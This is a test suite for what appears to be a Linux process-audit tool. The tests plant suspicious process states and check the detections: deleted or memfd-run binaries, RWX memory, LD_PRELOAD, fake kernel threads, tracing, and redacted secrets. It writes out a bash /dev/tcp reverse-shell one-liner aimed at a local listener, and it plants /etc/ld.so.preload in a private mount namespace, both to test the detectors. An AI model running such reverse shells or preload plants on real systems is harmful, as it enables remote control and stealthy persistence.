/**
 * Each audit rule against a live process that plants its condition (C helpers compiled here, a
 * copied binary, socat, strace), checking the finding, its severity and evidence.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { Finding } from "../../src/model/finding.js";
import { BIN, runCli } from "../helpers/cli.js";
import { startProcess } from "../helpers/live.js";
import { compileC } from "../helpers/native.js";
import { runAsNobody } from "../helpers/unprivileged.js";
import {
  auditJson,
  EMPTY_LIB_C,
  exeOf,
  FAKE_KWORKER_C,
  HEAP_SECRET_C,
  MEMFD_EXEC_C,
  PATCH_SELF_C,
  RWX_C,
  randomAwsKey,
  tempDir,
  waitUntil,
} from "./_helpers.js";

/** The checkout sits in a scratch directory (a clone under /tmp): its compiled helpers are tmp-exe findings too. */
const UNDER_SCRATCH = /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(path.resolve("."));

const dir = tempDir();
const SLEEP = fs.realpathSync("/bin/sleep");

function only(findings: Finding[], rule: string, pid: number): Finding {
  const matching = findings.filter((f) => f.rule === rule && f.pid === pid);
  expect(matching, JSON.stringify(findings)).toHaveLength(1);
  return matching[0] as Finding;
}

/** Copies /bin/sleep to `name` in the temp dir and runs it; resolves once it runs the copy. */
async function runCopy(name: string) {
  const copy = path.join(dir, name);
  fs.copyFileSync(SLEEP, copy);
  fs.chmodSync(copy, 0o755);
  const p = await startProcess(copy, ["300"], { stdio: "ignore" });
  await waitUntil("the copy to run", () => exeOf(p.pid) === copy);
  return { p, copy };
}

describe("audit rules on planted conditions", () => {
  it("deleted-exe: a copied binary run then deleted is high; one replaced by a new file is low", async () => {
    const { p, copy } = await runCopy("vanishing");
    fs.unlinkSync(copy);
    const { findings } = await auditJson([String(p.pid), "--rules", "deleted-exe"]);
    const f = only(findings, "deleted-exe", p.pid);
    expect(f.severity).toBe("high");
    expect(f.exe).toBe(`${copy} (deleted)`);
    expect(f.evidence).toMatchObject({ path: copy, replacedByNewFile: false });
    expect(f.startTimeTicks).toBeGreaterThan(0);

    const upgraded = await runCopy("upgraded");
    fs.unlinkSync(upgraded.copy);
    fs.copyFileSync(SLEEP, upgraded.copy);
    const again = await auditJson([String(upgraded.p.pid), "--rules", "deleted-exe"]);
    const g = only(again.findings, "deleted-exe", upgraded.p.pid);
    expect(g.severity).toBe("low");
    expect(g.evidence).toMatchObject({ path: upgraded.copy, replacedByNewFile: true });
    await Promise.all([p.kill(), upgraded.p.kill()]);
  });

  it("tmp-exe: a binary run from /tmp is medium and names the directory", async () => {
    const { p, copy } = await runCopy("from-tmp");
    expect(copy.startsWith("/tmp/")).toBe(true);
    const { findings } = await auditJson([String(p.pid), "--rules", "tmp-exe"]);
    const f = only(findings, "tmp-exe", p.pid);
    expect(f.severity).toBe("medium");
    expect(f.evidence).toMatchObject({ path: copy, directory: "/tmp/" });
    // The same binary under a hidden directory, outside the scratch directories.
    const hiddenDir = path.join(path.resolve(".tmp"), "audit-hidden", ".cache");
    fs.mkdirSync(hiddenDir, { recursive: true });
    const hidden = path.join(hiddenDir, "sleeper");
    fs.copyFileSync(SLEEP, hidden);
    fs.chmodSync(hidden, 0o755);
    const q = await startProcess(hidden, ["300"], { stdio: "ignore" });
    await waitUntil("the hidden copy to run", () => exeOf(q.pid) === hidden);
    const second = await auditJson([String(q.pid), "--rules", "tmp-exe"]);
    const g = only(second.findings, "tmp-exe", q.pid);
    if (UNDER_SCRATCH) {
      // A checkout under /tmp: the scratch directory outranks the hidden one.
      expect(g.severity).toBe("medium");
    } else {
      // .tmp is itself hidden: the first hidden component is named.
      expect(g.severity).toBe("low");
      expect(g.evidence).toMatchObject({ path: hidden, directory: null, hiddenComponent: ".tmp" });
    }
    await Promise.all([p.kill(), q.kill()]);
    fs.rmSync(path.join(path.resolve(".tmp"), "audit-hidden"), { recursive: true, force: true });
  });

  it("memfd-exe: memfd_create + fexecve is high and not also reported as deleted-exe", async () => {
    const p = await startProcess(compileC("audit-memfd-exec", MEMFD_EXEC_C), [], { stdio: "ignore" });
    await waitUntil("fexecve", () => exeOf(p.pid)?.startsWith("/memfd:audit-fileless"));
    const { findings } = await auditJson([String(p.pid), "--rules", "memfd-exe,deleted-exe"]);
    const f = only(findings, "memfd-exe", p.pid);
    expect(f.severity).toBe("high");
    expect(f.evidence).toMatchObject({ memfdName: "audit-fileless" });
    expect(findings.filter((x) => x.rule === "deleted-exe")).toEqual([]);
    await p.kill();
  });

  it("rwx-memory: an anonymous RWX page is high, named by address, with its first bytes", async () => {
    const p = await startProcess(compileC("audit-rwx", RWX_C), [], { ready: "addr" });
    const address = BigInt(/addr (0x[0-9a-f]+)/.exec(p.output())?.[1] as string);
    const { findings } = await auditJson([String(p.pid), "--rules", "rwx-memory"]);
    const f = only(findings, "rwx-memory", p.pid);
    expect(f.severity).toBe("high");
    const regions = f.evidence.regions as { start: string; perms: string; anonymous: boolean; firstBytes: string }[];
    const region = regions.find((r) => BigInt(r.start) === address);
    expect(region).toMatchObject({ perms: "rwxp", anonymous: true });
    expect(region?.firstBytes.startsWith("909090ccc3deadbeef")).toBe(true);
    await p.kill();
  });

  it("patched-code: code written through /proc/self/mem shows as private dirty text", async () => {
    const binary = compileC("audit-patch-self", PATCH_SELF_C);
    const p = await startProcess(binary, [], { ready: "patched" });
    const { findings } = await auditJson([String(p.pid), "--rules", "patched-code"]);
    const f = only(findings, "patched-code", p.pid);
    expect(f.severity).toBe("high");
    const regions = f.evidence.regions as { path: string; perms: string; privateDirtyBytes: number; anonymousBytes: number }[];
    expect(regions[0]?.path).toBe(binary);
    expect(regions[0]?.perms).toMatch(/^r.xp$/);
    expect(regions[0]?.anonymousBytes).toBeGreaterThan(0);
    // An unpatched run of a program is clean.
    const clean = await startProcess(SLEEP, ["300"], { stdio: "ignore" });
    const none = await auditJson([String(clean.pid), "--rules", "patched-code"]);
    expect(none.findings).toEqual([]);
    await Promise.all([p.kill(), clean.kill()]);
  });

  it("preload: LD_PRELOAD in a process's environment names the library", async () => {
    const lib = compileC("audit-empty-lib", EMPTY_LIB_C, ["-shared", "-fPIC"]);
    const p = await startProcess(SLEEP, ["300"], { stdio: "ignore", env: { ...process.env, LD_PRELOAD: lib } });
    await waitUntil("the library to load", () => fs.readFileSync(`/proc/${p.pid}/maps`, "utf8").includes(lib));
    const { findings } = await auditJson([String(p.pid), "--rules", "preload"]);
    const f = only(findings, "preload", p.pid);
    expect(f.severity).toBe("high");
    expect(f.evidence).toMatchObject({ variables: { LD_PRELOAD: lib }, libraries: [lib] });
    await p.kill();
  });

  it("preload: a non-empty /etc/ld.so.preload is critical and names its libraries (planted in a private mount namespace)", async () => {
    const lib = compileC("audit-empty-lib", EMPTY_LIB_C, ["-shared", "-fPIC"]);
    const layer = fs.mkdtempSync(path.join(dir, "etc-layer-"));
    // /etc may have no ld.so.preload to bind over: an overlay on /etc (its upper layer on a tmpfs) adds one, in a
    // private mount namespace, so the host's /etc never changes. Every program started there then loads the
    // library, the audit's own node among them: the file is really in force.
    const script = [
      "set -e",
      `mount -t tmpfs tmpfs ${layer}`,
      `mkdir ${layer}/upper ${layer}/work`,
      `printf '%s\\n' ${lib} > ${layer}/upper/ld.so.preload`,
      `mount -t overlay overlay -o lowerdir=/etc,upperdir=${layer}/upper,workdir=${layer}/work /etc`,
      `grep -q ${lib} /proc/self/maps || { echo 'the library was not preloaded' >&2; exit 99; }`,
      `exec "${process.execPath}" "${BIN}" audit --rules preload --json`,
    ].join("\n");
    const r = spawnSync("unshare", ["--mount", "--propagation", "private", "sh", "-c", script], { encoding: "utf8" });
    // stderr may list processes of the host it could not read (exiting ones, PID 1 in some containers).
    expect(r.stderr).not.toMatch(/preload(ed)?:? (was not|cannot be)|ERROR: ld\.so/);
    expect(r.status, r.stderr).toBe(0);
    const system = (JSON.parse(r.stdout) as Finding[]).filter((f) => f.rule === "preload" && f.pid === null);
    expect(system).toHaveLength(1);
    expect(system[0]?.severity).toBe("critical");
    expect(system[0]?.evidence).toEqual({ file: "/etc/ld.so.preload", libraries: [lib] });
    // The host never saw the file; its own audit has no such finding.
    expect(fs.existsSync("/etc/ld.so.preload") && fs.readFileSync("/etc/ld.so.preload", "utf8").includes(lib)).toBe(false);
    const host = await auditJson(["--rules", "preload"]);
    expect(host.findings.filter((f) => f.pid === null)).toEqual([]);
  });

  it("reverse-shell: a bash whose stdio is a TCP socket to a local socat listener is critical, with both addresses", async () => {
    const port = 20000 + Math.floor(Math.random() * 30000);
    // The listener keeps its stdin open (the test's pipe) and logs the connection on stderr.
    const listener = await startProcess("sh", ["-c", `exec socat -d -d TCP-LISTEN:${port},bind=127.0.0.1,reuseaddr STDIO 2>&1`], {
      ready: "listening on",
    });
    const shell = await startProcess("bash", ["-c", `exec bash <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`], { stdio: "ignore" });
    await listener.waitFor("accepting connection");
    const bashPid = await waitUntil("bash to hold the socket", () => {
      try {
        return fs.readlinkSync(`/proc/${shell.pid}/fd/0`).startsWith("socket:") ? shell.pid : undefined;
      } catch {
        return undefined;
      }
    });
    const { findings } = await auditJson([String(bashPid), "--rules", "reverse-shell"]);
    const f = only(findings, "reverse-shell", bashPid);
    expect(f.severity).toBe("critical");
    const stdio = f.evidence.stdio as { fd: string; protocol: string; local: string; remote: string }[];
    expect(stdio.map((s) => s.fd)).toEqual(["stdin", "stdout", "stderr"]);
    expect(stdio[0]?.remote).toBe(`127.0.0.1:${port}`);
    expect(stdio[0]?.local).toMatch(/^127\.0\.0\.1:\d+$/);
    // The listener itself (socat, stdio a pipe) is not a reverse shell.
    const listenerFindings = await auditJson([String(listener.pid), "--rules", "reverse-shell"]);
    expect(listenerFindings.findings).toEqual([]);
    await Promise.all([shell.kill(), listener.kill()]);
  });

  it("fake-kernel-thread: prctl-renamed [kworker/0:9] with argv overwritten is high; real kernel threads are not", async () => {
    const p = await startProcess(compileC("audit-fake-kworker", FAKE_KWORKER_C), ["x".repeat(32)], { ready: "ready" });
    const { findings } = await auditJson([String(p.pid), "2", "--rules", "fake-kernel-thread"]);
    const f = only(findings, "fake-kernel-thread", p.pid);
    expect(f.severity).toBe("high");
    expect(f.comm).toBe("kworker/0:9");
    expect(f.evidence).toMatchObject({ cmdline: "[kworker/0:9]", pfKthread: false });
    expect(findings.filter((x) => x.pid === 2)).toEqual([]); // kthreadd, a real one
    await p.kill();
  });

  it("traced: a process under strace names strace as its tracer", async () => {
    const target = await startProcess(SLEEP, ["300"], { stdio: "ignore" });
    const tracer = await startProcess("strace", ["-p", String(target.pid), "-o", "/dev/null"], { stdio: "ignore" });
    await waitUntil("the tracer to attach", () => /TracerPid:\s+[1-9]/.test(fs.readFileSync(`/proc/${target.pid}/status`, "utf8")));
    const { findings } = await auditJson([String(target.pid), "--rules", "traced"]);
    const f = only(findings, "traced", target.pid);
    expect(f.severity).toBe("medium");
    expect(f.evidence).toMatchObject({ tracerPid: tracer.pid, tracerComm: "strace" });
    await tracer.kill("SIGTERM");
    await target.kill();
  });

  it("secret-in-environ: an AWS key in environ is found and never printed whole (JSON and text)", async () => {
    const key = randomAwsKey();
    const p = await startProcess(SLEEP, ["300"], {
      stdio: "ignore",
      env: { PATH: "/usr/bin:/bin", DEPLOY_KEY_ID: key, DB_PASSWORD: "hunter2-hunter2" },
    });
    await waitUntil("exec", () => exeOf(p.pid) === SLEEP);
    const { findings, stdout, stderr } = await auditJson([String(p.pid), "--rules", "secret-in-environ"]);
    const f = only(findings, "secret-in-environ", p.pid);
    expect(f.severity).toBe("medium");
    expect(f.evidence.variables).toEqual([
      { name: "DEPLOY_KEY_ID", kind: "aws-access-key-id", redacted: `AKIA…${key.slice(-3)}` },
      { name: "DB_PASSWORD", kind: "secret-name", redacted: "h…2" },
    ]);
    const text = await runCli(["audit", String(p.pid), "--rules", "secret-in-environ"]);
    for (const out of [stdout, stderr, text.stdout, text.stderr]) {
      expect(out).not.toContain(key);
      expect(out).not.toContain(key.slice(4));
      expect(out).not.toContain("hunter2");
    }
    expect(text.stdout).toContain(`AKIA…${key.slice(-3)}`);
    await p.kill();
  });

  it("secret-in-memory (--memory): an AWS key in the heap is found with its address and region, never printed whole", async () => {
    const key = randomAwsKey();
    const p = await startProcess(compileC("audit-heap-secret", HEAP_SECRET_C), [], {});
    p.child.stdin?.write(`aws ${key} end\n`);
    await p.waitFor("ready");
    const heapCopy = BigInt(/ready (0x[0-9a-f]+)/.exec(p.output())?.[1] as string);
    const { findings, stdout, stderr } = await auditJson([String(p.pid), "--memory", "--rules", "secret-in-memory"]);
    const f = only(findings, "secret-in-memory", p.pid);
    const secrets = f.evidence.secrets as {
      kind: string;
      redacted: string;
      count: number;
      places: { address: string; region: string }[];
    }[];
    expect(secrets).toHaveLength(1);
    expect(secrets[0]).toMatchObject({ kind: "aws-access-key-id", redacted: `AKIA…${key.slice(-3)}` });
    const places = secrets[0]?.places ?? [];
    expect(places.some((pl) => BigInt(pl.address) === heapCopy + 4n && pl.region === "[heap]")).toBe(true);
    const text = await runCli(["audit", String(p.pid), "--memory"]);
    for (const out of [stdout, stderr, text.stdout, text.stderr]) {
      expect(out).not.toContain(key);
      expect(out).not.toContain(key.slice(4));
    }
    await p.kill();
  });
});

describe("audit command line", () => {
  it("exits 5 with --fail-on at or below a finding's severity, 0 above it; --min-severity filters", async () => {
    const p = await startProcess(compileC("audit-rwx", RWX_C), [], { ready: "addr" });
    const { findings: high } = await auditJson([String(p.pid), "--rules", "rwx-memory", "--fail-on", "high"], 5);
    expect(high).toHaveLength(1);
    await auditJson([String(p.pid), "--rules", "rwx-memory", "--fail-on", "critical"], 0);
    const { findings: none } = await auditJson([String(p.pid), "--rules", "rwx-memory", "--min-severity", "critical"]);
    expect(none).toEqual([]);
    const bad = await runCli(["audit", "--min-severity", "severe"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("info, low, medium, high, critical");
    await p.kill();
  });

  it("as another user, the rules about the executable count a process whose exe link is unreadable as not checked", async () => {
    const { p } = await runCopy("audit-unreadable-exe");
    const result = await runAsNobody(["audit", String(p.pid), "--rules", "deleted-exe,memfd-exe,tmp-exe", "--json"]);
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual([]);
    expect(result.stderr).toMatch(
      /^procscope: some checks could not run: deleted-exe: permission denied: another user's process \(uid 0\); not root \(1\); memfd-exe: permission denied: another user's process \(uid 0\); not root \(1\); tmp-exe: permission denied: another user's process \(uid 0\); not root \(1\)\n$/,
    );
    await p.kill();
    // A kernel thread has no executable to check: that is no failure to report.
    const kthreadd = await runCli(["audit", "2", "--rules", "deleted-exe,memfd-exe,tmp-exe", "--json"]);
    expect(kthreadd.code, kthreadd.stderr).toBe(0);
    expect(kthreadd.stderr).toBe("");
  });

  it("an unknown rule exits 2 listing the known ones", async () => {
    const result = await runCli(["audit", "--rules", "deleted-exe,no-such-rule"]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('unknown rule "no-such-rule"');
    for (const id of ["deleted-exe", "rwx-memory", "reverse-shell", "hidden-process", "secret-in-memory"])
      expect(result.stderr).toContain(id);
  });

  it("an empty --rules says no rule was given, listing the known ones", async () => {
    const result = await runCli(["audit", "--rules", ""]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/^procscope: no rule given; known rules: deleted-exe, /);
  });

  it("a PID that does not exist exits 3", async () => {
    const max = Number(fs.readFileSync("/proc/sys/kernel/pid_max", "utf8"));
    let pid = max - 1;
    while (fs.existsSync(`/proc/${pid}`)) pid--;
    const result = await runCli(["audit", String(pid)]);
    expect(result.code).toBe(3);
  });

  it("lists findings most severe first across rules and processes", async () => {
    const rwx = await startProcess(compileC("audit-rwx", RWX_C), [], { ready: "addr" });
    const key = randomAwsKey();
    const env = await startProcess(SLEEP, ["300"], { stdio: "ignore", env: { PATH: "/bin", K: key } });
    await waitUntil("exec", () => exeOf(env.pid) === SLEEP);
    const { findings } = await auditJson([String(env.pid), String(rwx.pid)]);
    const rules = findings.map((f) => f.rule);
    expect(rules).toContain("rwx-memory");
    expect(rules.indexOf("rwx-memory")).toBeLessThan(rules.indexOf("secret-in-environ"));
    const ranks = findings.map((f) => ["info", "low", "medium", "high", "critical"].indexOf(f.severity));
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
    const text = await runCli(["audit", String(env.pid), String(rwx.pid)]);
    expect(text.stdout.indexOf("HIGH")).toBeLessThan(text.stdout.indexOf("MEDIUM"));
    // Under /tmp every compiled helper runs from a scratch directory (medium) too.
    expect(text.stdout).toMatch(
      UNDER_SCRATCH
        ? /\d+ findings \(\d+ high, \d+ medium, \d+ low\) in 2 processes/
        : /\d+ findings \(\d+ high, 1 medium, \d+ low\) in 2 processes/,
    );
    await Promise.all([rwx.kill(), env.kill()]);
  });

  it("audits every process without failing, in JSON an array of findings with every field", async () => {
    const { findings } = await auditJson([]);
    for (const f of findings)
      expect(Object.keys(f).sort()).toEqual(["comm", "evidence", "exe", "hint", "pid", "rule", "severity", "startTimeTicks", "summary"]);
    // Our own process (a JIT with RWX pages) is never audited.
    expect(findings.filter((f) => f.pid === process.pid)).toEqual([]);
  });
});
